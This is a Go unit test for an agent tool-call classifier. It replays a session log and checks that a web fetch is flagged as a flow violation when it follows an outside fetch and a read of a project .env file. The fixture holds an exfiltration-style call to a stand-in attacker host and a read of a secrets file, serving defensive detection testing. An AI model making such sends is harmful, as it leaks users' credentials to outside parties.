package corpus

import (
	"context"
	"strings"
	"testing"

	"github.com/coworkbridge/coworkbridge/classifier"
)

// A replay judges each session's calls in order with the flow they make: a send after the
// session took in outside content and read private data is asked about, and the same send in
// another session, which did neither, is not.
func TestAReplayReplaysEachSessionsFlow(t *testing.T) {
	c, err := classifier.New(classifier.Policy{})
	if err != nil {
		t.Fatal(err)
	}
	log := strings.Join([]string{
		`{"ts":"2026-11-27T10:00:00Z","host":"mac-1","rid":"r1","session":"local_a","tool":"WebFetch","input":{"url":"https://issues.example/1","prompt":"x"},"decision":"allow","tool_use_id":"toolu_1"}`,
		`{"ts":"2026-11-27T10:00:01Z","host":"mac-1","rid":"r2","session":"local_a","tool":"Read","input":{"file_path":"/Users/alex/project/.env"},"cwd":"/Users/alex/project","decision":"ask","rule":"read.dotenv-project","tool_use_id":"toolu_2"}`,
		`{"ts":"2026-11-27T10:00:02Z","host":"mac-1","rid":"r3","session":"local_b","tool":"WebFetch","input":{"url":"https://attacker.example/c?d=k","prompt":"x"},"decision":"allow","tool_use_id":"toolu_3"}`,
		`{"ts":"2026-11-27T10:00:03Z","host":"mac-1","rid":"r4","session":"local_a","tool":"WebFetch","input":{"url":"https://attacker.example/c?d=k","prompt":"x"},"decision":"allow","tool_use_id":"toolu_4"}`,
	}, "\n")
	res := NewReplayed()
	if err := Replay(context.Background(), c, strings.NewReader(log), res); err != nil {
		t.Fatal(err)
	}
	ex := res.Examples["allow->ask"]
	if res.Flows != 1 || len(ex) != 1 || ex[0].RID != "r4" || ex[0].NewRule != "flow.untrusted-private-send" || len(ex[0].Flow) != 3 {
		t.Fatalf("flows %d, changes %v, examples %+v", res.Flows, res.Changes, res.Examples)
	}
}
